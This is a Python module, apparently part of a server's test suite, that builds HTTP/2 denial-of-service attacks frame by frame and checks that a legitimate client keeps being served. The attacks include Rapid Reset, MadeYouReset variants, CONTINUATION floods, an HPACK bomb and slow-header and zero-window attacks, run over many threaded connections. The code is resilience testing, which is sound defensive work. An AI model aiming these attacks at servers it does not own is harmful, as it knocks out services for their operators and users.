"""Attackers with frames made by hand, and the well-behaved client beside them.

A row is one way to make a server work, hold memory or wait for nothing. Each of its connections
sends round after round until the server cuts it off, and tells how that went.
"""

from __future__ import annotations

import socket
import threading
import time
from collections.abc import Callable, Mapping
from dataclasses import dataclass, field

import frames
from frames import (
    ENABLE_PUSH,
    FRAME_BYTES_MAX,
    INITIAL_WINDOW_SIZE,
    WINDOW_MAX,
    Peer,
    block,
    continuation,
    data,
    headers,
    indexed_literal,
    integer,
    literal,
    ping,
    priority,
    request_fields,
    reset,
    settings,
    window_update,
)

CONNECTIONS = 10
# After this many streams a connection would run out of numbers; no attack gets that far.
STREAMS_MAX = 1 << 30
FRAMES_A_ROUND = 200


@dataclass(frozen=True)
class Target:
    """What a server can be asked for."""

    address: tuple[str, int]
    # A request that is answered at once, one whose body is awaited, and one with a large reply.
    get: bytes = block(*request_fields("GET", "/v2/health/live"))
    post: bytes = frames.post_block()
    large: bytes = frames.post_block(path="/v2/models/wide/infer")
    large_body: bytes = b""


# Makes a round's bytes from its number (from 0) and what is aimed at.
Round = Callable[[int, Target], bytes]


@dataclass(frozen=True)
class Row:
    name: str
    what: str
    round: Round
    announced: Mapping[int, int] = field(default_factory=dict)
    # Seconds between two rounds: none for a flood.
    pause: float = 0
    # Whether replies are read; a flood that reads nothing is another matter.
    reads: bool = True
    # Whether it begins with the preface, as HTTP/2 does.
    greets: bool = True
    # Bytes that the socket takes from the server before its sender has to wait.
    receive_buffer: int | None = None
    # How the server may defend itself without ending the connection.
    may_refuse: bool = False


def each(count: int, number: int, make: Callable[[int], bytes]) -> bytes:
    """The frames of `count` new streams in round `number`."""
    first = number * count
    return b"".join(make(2 * at + 1) for at in range(first, first + count))


def once(make: Callable[[Target], bytes]) -> Round:
    """In the first round only; later ones send nothing."""
    return lambda number, target: b"" if number else make(target)


def after(begin: Callable[[Target], bytes], more: bytes) -> Round:
    return lambda number, target: more if number else begin(target)


def opened(target: Target, *more: tuple[str, str]) -> bytes:
    """Stream 1, whose body is awaited."""
    return headers(1, target.post + block(*more), ends=False)


def window_overflow(number: int, target: Target) -> bytes:
    return each(
        10, number,
        lambda stream: headers(stream, target.post, ends=False) + window_update(stream, WINDOW_MAX),
    )


def length_exceeded(number: int, target: Target) -> bytes:
    head = target.post + block(("content-length", "1"))
    return each(
        10, number, lambda stream: headers(stream, head, ends=False) + data(stream, b"more than 1")
    )


def malformed_head(number: int, target: Target) -> bytes:
    head = target.get + literal("Upper", "case")
    return each(40, number, lambda stream: headers(stream, head))


def malformed_trailers(number: int, target: Target) -> bytes:
    trailers = block((":path", "/"))
    return each(
        10, number,
        lambda stream: headers(stream, target.post, ends=False) + headers(stream, trailers),
    )


def rapid_reset(number: int, target: Target) -> bytes:
    return each(100, number, lambda stream: headers(stream, target.get) + reset(stream))


def half_open_reset(number: int, target: Target) -> bytes:
    return each(
        100, number, lambda stream: headers(stream, target.post, ends=False) + reset(stream)
    )


def endless_block(number: int, target: Target) -> bytes:
    begin = b"" if number else headers(1, target.get, flags=0)
    filler = literal("x-filler", "v" * 1000)
    return begin + b"".join(continuation(1, filler, flags=0) for _ in range(50))


def empty_block(number: int, target: Target) -> bytes:
    begin = b"" if number else headers(1, target.get, flags=0)
    return begin + continuation(1, flags=0) * FRAMES_A_ROUND


# One entry of nearly the whole table, named some thousand times: 4 KiB that become 16 MiB.
BOMB = indexed_literal("x-bomb", "v" * 4000) + integer(62, 7, 0x80) * 4000


def bomb(number: int, target: Target) -> bytes:
    return each(4, number, lambda stream: headers(stream, target.get + BOMB))


def big_list(number: int, target: Target) -> bytes:
    filler = b"".join(literal(f"x-filler-{at}", "v" * 7000) for at in range(2))
    last = literal("x-filler-9", "v" * 8000)

    def make(stream: int) -> bytes:
        head = headers(stream, target.get + filler, flags=0)
        parts = continuation(stream, filler, flags=0) + continuation(stream, last)
        return head + parts

    return each(4, number, make)


def many_fields(number: int, target: Target) -> bytes:
    fields = literal("x", "") * 2000
    return each(5, number, lambda stream: headers(stream, target.get + fields))


def crumbs(number: int, target: Target) -> bytes:
    fields = literal("cookie", "a=b") * 1000
    return each(5, number, lambda stream: headers(stream, target.get + fields))


def unread(number: int, target: Target) -> bytes:
    if number:
        return b""
    return window_update(0, WINDOW_MAX >> 1) + each(
        100, 0,
        lambda stream: headers(stream, target.large, ends=not target.large_body)
        + (data(stream, target.large_body, ends=True) if target.large_body else b""),
    )


def hoard(number: int, target: Target) -> bytes:
    """As many streams as are let, each with a body that does not come."""
    if number:
        return b""
    return each(100, 0, lambda stream: headers(stream, target.post, ends=False))


ROWS = {
    row.name: row
    for row in [
        Row("rapid-reset", "requests that are reset at once (CVE-2023-44487)", rapid_reset),
        Row("half-open-reset", "requests without a body that are reset", half_open_reset),
        Row("made-window", "windows over 2^31 - 1, to be reset (MadeYouReset)", window_overflow),
        Row("made-length", "DATA past content-length (MadeYouReset)", length_exceeded),
        Row("made-head", "malformed heads (MadeYouReset)", malformed_head),
        Row("made-trailers", "malformed trailers (MadeYouReset)", malformed_trailers),
        Row("ping", "PING frames", lambda *_: ping() * FRAMES_A_ROUND),
        Row("ping-unread", "PING frames whose answers are not read", lambda *_: ping() * 2000,
            reads=False, receive_buffer=4096),
        Row("settings", "SETTINGS frames", lambda *_: settings((ENABLE_PUSH, 0)) * FRAMES_A_ROUND),
        Row("settings-empty", "SETTINGS frames without a setting", lambda *_: settings() * 400),
        Row("priority", "PRIORITY frames", lambda *_: priority(1, 3) * FRAMES_A_ROUND),
        Row("window-update", "WINDOW_UPDATE frames of 1 octet for the connection",
            lambda *_: window_update(0, 1) * FRAMES_A_ROUND),
        Row("window-update-stream", "WINDOW_UPDATE frames of 1 octet for a stream",
            after(opened, window_update(1, 1) * FRAMES_A_ROUND)),
        Row("data-empty", "empty DATA frames", after(opened, data(1) * FRAMES_A_ROUND)),
        Row("data-padding", "DATA frames of padding alone",
            after(opened, data(1, b"\xff" + bytes(255), flags=frames.PADDED) * 50)),
        Row("data-tiny", "DATA frames of 1 octet", after(opened, data(1, b"v") * FRAMES_A_ROUND)),
        Row("unknown", "frames of an unknown type",
            lambda *_: frames.frame(0xBE, 0, 0) * FRAMES_A_ROUND),
        Row("continuation", "a header block that does not end (CVE-2024-27316 and its like)",
            endless_block),
        Row("continuation-empty", "CONTINUATION frames of nothing", empty_block),
        Row("hpack-bomb", "small blocks that become large lists", bomb, may_refuse=True),
        Row("big-list", "header lists over 32 KiB", big_list, may_refuse=True),
        Row("many-fields", "header lists of 2,000 empty fields", many_fields, may_refuse=True),
        Row("crumbs", "1,000 cookie crumbs (CVE-2016-1544 and its like)", crumbs, may_refuse=True),
        Row("slow-headers", "a header block of which an octet comes now and then",
            lambda number, target: continuation(1, b"", flags=0) if number
            else headers(1, target.get[:9], flags=0), pause=1.5),
        Row("slow-body", "bodies of which an octet comes now and then",
            after(lambda target: hoard(0, target),
                  b"".join(data(stream, b"v") for stream in range(1, 200, 2))), pause=2),
        Row("no-preface", "connections that say nothing", lambda *_: b"", pause=1, greets=False),
        Row("half-preface", "connections that stop in the preface",
            once(lambda _: frames.PREFACE[:10]), pause=1, greets=False),
        Row("zero-window", "large replies without window for them", unread,
            announced={INITIAL_WINDOW_SIZE: 0}, pause=0.5, may_refuse=True),
        Row("unread", "large replies that are not taken from the socket", unread,
            announced={INITIAL_WINDOW_SIZE: WINDOW_MAX}, pause=0.5, reads=False,
            receive_buffer=4096, may_refuse=True),
        Row("idle", "connections that ask nothing", lambda *_: b"", pause=1),
        Row("hoard", "streams that are opened and left", hoard, pause=1),
    ]
}


@dataclass
class Fate:
    """How one connection of an attacker fared."""

    seconds: float = 0
    sent_bytes: int = 0
    is_cut: bool = False
    codes: list[str] = field(default_factory=list)
    # Streams that were answered with 4xx, or reset, by what was said.
    refusals: int = 0


def assail(target: Target, row: Row, ends: threading.Event, seconds: float) -> Fate:
    """One connection until it is cut off, or the time is over."""
    fate = Fate()
    began = time.monotonic()
    try:
        with Attacker(target.address, row) as peer:
            number = 0
            while not (ends.is_set() or peer.is_closed) and time.monotonic() < began + seconds:
                fate.sent_bytes += peer.assail(row.round(number, target))
                number += 1
                if row.reads:
                    peer.take(time.monotonic() + max(0.001, row.pause))
                    peer.forget()
                elif not peer.looks_closed():
                    ends.wait(row.pause or 0.001)
            fate.is_cut = peer.is_closed
            fate.codes = sorted({frames.named(code) for _, code in peer.goaways})
            fate.refusals = peer.refusals
    except (ConnectionError, TimeoutError, AssertionError):
        # Not even let in.
        fate.is_cut = True
    fate.seconds = time.monotonic() - began
    return fate


class Attacker(Peer):
    """A peer that does not wait for anybody."""

    def __init__(self, address: tuple[str, int], row: Row) -> None:
        self.refusals = 0
        super().__init__(address, row.announced, greets=row.greets)
        if row.receive_buffer:
            self.socket.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, row.receive_buffer)

    def assail(self, sent: bytes) -> int:
        """Sends what the socket takes within a moment; how much that was."""
        self.socket.settimeout(1)
        try:
            self.socket.sendall(sent)
            return len(sent)
        except TimeoutError:
            # A part of a frame may be on its way, so nothing sensible can follow.
            self.is_closed = self.is_closed or self.looks_closed()
            return 0
        except (BrokenPipeError, ConnectionResetError):
            self.is_closed = True
            return 0

    def looks_closed(self) -> bool:
        """Whether the server has closed, without reading what it sent before."""
        info = self.socket.getsockopt(socket.IPPROTO_TCP, socket.TCP_INFO, 1)
        # ESTABLISHED is 1 (linux/tcp_states.h).
        self.is_closed = self.is_closed or info[0] != 1
        return self.is_closed

    def forget(self) -> None:
        """An attack may last long, and what came is of no more use."""
        for stream, reply in list(self.replies.items()):
            if reply.is_over:
                self.refusals += reply.reset_code is not None or (reply.status or 0) >= 400
                del self.replies[stream]
        self.frames.clear()
        self.pongs.clear()


class Assault:
    """Attackers over some connections at once. A context manager: they end with it."""

    def __init__(
        self, target: Target, row: Row, *, connections: int = CONNECTIONS, seconds: float = 60,
        again: bool = False,
    ) -> None:
        """With `again`, who is cut off comes back at once."""
        self.fates: list[Fate] = []
        self._ends = threading.Event()
        self._arguments = (target, row, self._ends, seconds)
        self._again = again
        self._threads = [
            threading.Thread(target=self._run, daemon=True) for _ in range(connections)
        ]

    def _run(self) -> None:
        while True:
            fate = assail(*self._arguments)
            self.fates.append(fate)
            if self._ends.is_set() or not self._again or not fate.is_cut:
                return
            self._ends.wait(0.01)

    def __enter__(self) -> Assault:
        for thread in self._threads:
            thread.start()
        return self

    def wait(self) -> list[Fate]:
        """Until every connection has been cut off, or has had its time."""
        for thread in self._threads:
            thread.join()
        return self.fates

    def __exit__(self, *_: object) -> None:
        self._ends.set()
        for thread in self._threads:
            thread.join(30)


class Neighbour:
    """A client as it should be, on a connection of its own: one request after the other.

    A context manager: it asks from its begin to its end.
    """

    def __init__(
        self, target: Target, body: bytes | None, *, pause: float = 0
    ) -> None:
        self.errors: list[str] = []
        self.seconds: list[float] = []
        self._target, self._body, self._pause = target, body, pause
        self._block = target.get if body is None else target.post
        self._ends = threading.Event()
        self._thread = threading.Thread(target=self._run, daemon=True)

    def __enter__(self) -> Neighbour:
        self._thread.start()
        return self

    def __exit__(self, *_: object) -> None:
        self._ends.set()
        self._thread.join(30)
        if self._thread.is_alive():
            self.errors.append("no answer for 30 s")

    def _run(self) -> None:
        while not self._ends.is_set():
            try:
                self._ask()
            except (AssertionError, OSError) as error:
                self.errors.append(f"{type(error).__name__}: {error}")
                return

    def _ask(self) -> None:
        """Over one connection, as long as the server wants it to last."""
        with Peer(self._target.address) as peer:
            credit = 0
            for number in range(STREAMS_MAX):
                if self._ends.is_set() or peer.goaways:
                    return
                stream = 2 * number + 1
                began = time.perf_counter()
                sent = headers(stream, self._block, ends=self._body is None)
                if self._body is not None:
                    sent += data(stream, self._body, ends=True)
                peer.send(sent)
                reply = peer.wait(stream)
                self.seconds.append(time.perf_counter() - began)
                if reply.status != 200:
                    self.errors.append(str(reply))
                credit += len(reply.body)
                if credit > FRAME_BYTES_MAX:
                    peer.send(window_update(0, credit))
                    credit = 0
                del peer.replies[stream]
                peer.frames.clear()
                self._ends.wait(self._pause)
